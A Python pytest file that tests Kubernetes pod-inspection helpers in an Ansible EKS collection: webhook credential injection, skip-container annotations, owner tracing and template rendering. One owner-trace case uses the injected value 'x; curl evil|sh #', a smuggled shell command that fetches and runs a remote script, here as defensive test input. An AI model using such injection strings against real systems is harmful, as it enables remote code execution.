# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import copy
import typing as t

import pytest
from ansible_collections.enbuild.eks.plugins.module_utils._kubernetes.pods import (
    CREDENTIALS_URI,
    TOKEN_FILE,
    TOKEN_VOLUME,
    Owner,
    bare_containers,
    created_by,
    lives,
    metadata_of,
    plain_template,
    pod_of,
    rendered_templates,
    service_account_of,
    skipped_containers,
)


def container(name: t.Any, injected: t.Any = True) -> t.Any:
    if not injected:
        return {"name": name, "image": name}
    return {
        "name": name,
        "image": name,
        "env": [{"name": CREDENTIALS_URI, "value": "u"}, {"name": TOKEN_FILE, "value": "f"}],
        "volumeMounts": [{"name": TOKEN_VOLUME, "mountPath": "/m"}],
    }


def pod(name: t.Any = "p", owner: t.Any = None, injected: t.Any = True, **spec: t.Any) -> t.Any:
    meta = {"name": name, "namespace": "shop", "annotations": {}}
    if owner:
        meta["ownerReferences"] = [{"kind": owner[0], "name": owner[1], "controller": True}]
    return {
        "metadata": meta,
        "spec": {
            "serviceAccountName": "orders",
            "containers": [container("app", injected)],
            "volumes": [{"name": TOKEN_VOLUME}] if injected else [],
            **spec,
        },
        "status": {"phase": "Running"},
    }


@pytest.mark.parametrize(
    ("listed", "skipped"),
    [
        ("side", ["side"]),
        ("side,third", ["side", "third"]),
        ("side, third", ["side"]),
        (" side", []),
        ('"side","third"', ["side", "third"]),
        ("", []),
        ("\nside\nthird", ["side"]),
        ('"side"x,third', []),
        ('si"de,third', []),
    ],
)
def test_skip_containers_is_read_as_the_webhook_reads_it(listed: str, skipped: t.Any) -> None:
    made = pod(containers=[container(name) for name in ("app", "side", "third")])
    made["metadata"]["annotations"] = {"eks.amazonaws.com/skip-containers": listed}
    assert list(skipped_containers(made)) == skipped


def test_a_pod_as_the_webhook_leaves_it_lacks_nothing() -> None:
    assert bare_containers(pod()) == ()


@pytest.mark.parametrize(
    "spoil",
    [
        lambda p: p["spec"].update(volumes=[]),
        lambda p: p["spec"]["containers"][0].update(env=[]),
        lambda p: p["spec"]["containers"][0]["env"].pop(),
        lambda p: p["spec"]["containers"][0]["env"].pop(0),
        lambda p: p["spec"]["containers"][0].update(volumeMounts=[]),
    ],
)
def test_a_pod_that_lacks_a_part_is_bare(spoil: t.Any) -> None:
    spoilt = copy.deepcopy(pod())
    spoil(spoilt)
    assert bare_containers(spoilt) == ("app",)


def test_init_containers_count_and_skipped_ones_do_not() -> None:
    found = pod(initContainers=[container("setup", injected=False), container("skipped", injected=False)])
    found["metadata"]["annotations"]["eks.amazonaws.com/skip-containers"] = "skipped, other"
    assert bare_containers(found) == ("setup",)


def test_pods_are_traced_through_their_replica_set() -> None:
    sets = [
        {
            "metadata": {
                "namespace": "shop",
                "name": "orders-1",
                "ownerReferences": [{"kind": "Deployment", "name": "orders", "controller": True}],
            }
        }
    ]
    pods = [
        pod("a", ("ReplicaSet", "orders-1")),
        pod("b", ("StatefulSet", "db"), injected=False),
        pod("c", ("ReplicaSet", "loose")),
        pod("d"),
    ]
    there = metadata_of({"ReplicaSet": sets})
    found = {p.name: p for p in (pod_of(each, there) for each in pods)}
    assert found["a"].owner == Owner("Deployment", "shop", "orders")
    assert found["b"].owner == Owner("StatefulSet", "shop", "db")
    assert found["c"].owner == Owner("Pod", "shop", "c"), "no such ReplicaSet is there"
    assert found["d"].owner == Owner("Pod", "shop", "d")
    assert [found[name].injected for name in "abcd"] == [True, False, True, True]


def test_leaving_and_finished_pods_are_left_out() -> None:
    leaving, done, failed = pod("a"), pod("b"), pod("c")
    leaving["metadata"]["deletionTimestamp"] = "now"
    done["status"]["phase"] = "Succeeded"
    failed["status"]["phase"] = "Failed"
    assert [lives(each) for each in (leaving, done, failed, pod("d"))] == [False, False, False, True]


def owned(kind: str, name: str = "night", uid: str = "j", **annotations: str) -> t.Any:
    made = pod("p", (kind, name))
    made["metadata"]["ownerReferences"][0]["uid"] = uid
    made["metadata"]["annotations"] = annotations
    return made


LISTED: dict[str, list[t.Any]] = {
    "Job": [{"metadata": {"namespace": "shop", "name": "night", "uid": "j"}}],
    "ReplicaSet": [
        {
            "metadata": {
                "namespace": "shop",
                "name": "alone",
                "uid": "a",
                "ownerReferences": [{"kind": "Rollout", "name": "x", "uid": "x", "controller": True}],
            }
        }
    ],
}
ITSELF = Owner("Pod", "shop", "p")


@pytest.mark.parametrize(
    ("made", "owner"),
    [
        (owned("Job"), Owner("Job", "shop", "night")),
        (owned("Job", uid="other"), ITSELF),
        (owned("Job", "gone"), ITSELF),
        (owned("StatefulSet", "not-listed"), Owner("StatefulSet", "shop", "not-listed")),
        (owned("ReplicaSet", "alone", "a"), Owner("ReplicaSet", "shop", "alone")),
        (owned("Node", "node-1"), ITSELF),
        (owned("Node", "node-1", **{"kubernetes.io/config.mirror": "x"}), Owner("Node", "shop", "")),
        (owned("Rollout"), ITSELF),
        (owned("x; curl evil|sh #"), ITSELF),
    ],
)
def test_an_owner_counts_where_it_is_there_and_owns_the_pod(made: t.Any, owner: Owner) -> None:
    assert pod_of(made, metadata_of(LISTED)).owner == owner


@pytest.mark.parametrize(
    ("spec", "name"),
    [({}, "default"), ({"serviceAccountName": "a"}, "a"), ({"serviceAccount": "old"}, "old")],
)
def test_service_account_of(spec: t.Any, name: t.Any) -> None:
    assert service_account_of({"spec": spec}) == name


def test_rendered_templates_take_the_release_namespace() -> None:
    documents = [
        None,
        {"kind": "Service", "metadata": {"name": "x"}},
        {"kind": "Deployment", "metadata": {"name": "a"}, "spec": {"template": {"spec": {"serviceAccountName": "s"}}}},
        {"kind": "DaemonSet", "metadata": {"name": "b", "namespace": "own"}, "spec": {"template": {"spec": {}}}},
    ]
    found = rendered_templates(documents, "shop")
    assert [(str(f.owner), f.service_account, f.source) for f in found] == [
        ("Deployment shop/a", "s", "rendered"),
        ("DaemonSet own/b", "default", "rendered"),
    ]


def test_a_new_pod_keeps_labels_and_annotations_of_its_template() -> None:
    (template,) = rendered_templates(
        [
            {
                "kind": "Deployment",
                "metadata": {"name": "a"},
                "spec": {
                    "template": {
                        "metadata": {"labels": {"l": "1"}, "annotations": {"n": "2"}},
                        "spec": {"containers": []},
                    }
                },
            }
        ],
        "shop",
    )
    made = created_by(template)
    assert made["metadata"] == {
        "generateName": "a-",
        "namespace": "shop",
        "labels": {"l": "1"},
        "annotations": {"n": "2"},
    }
    assert created_by(plain_template("shop", "s"))["spec"]["serviceAccountName"] == "s"
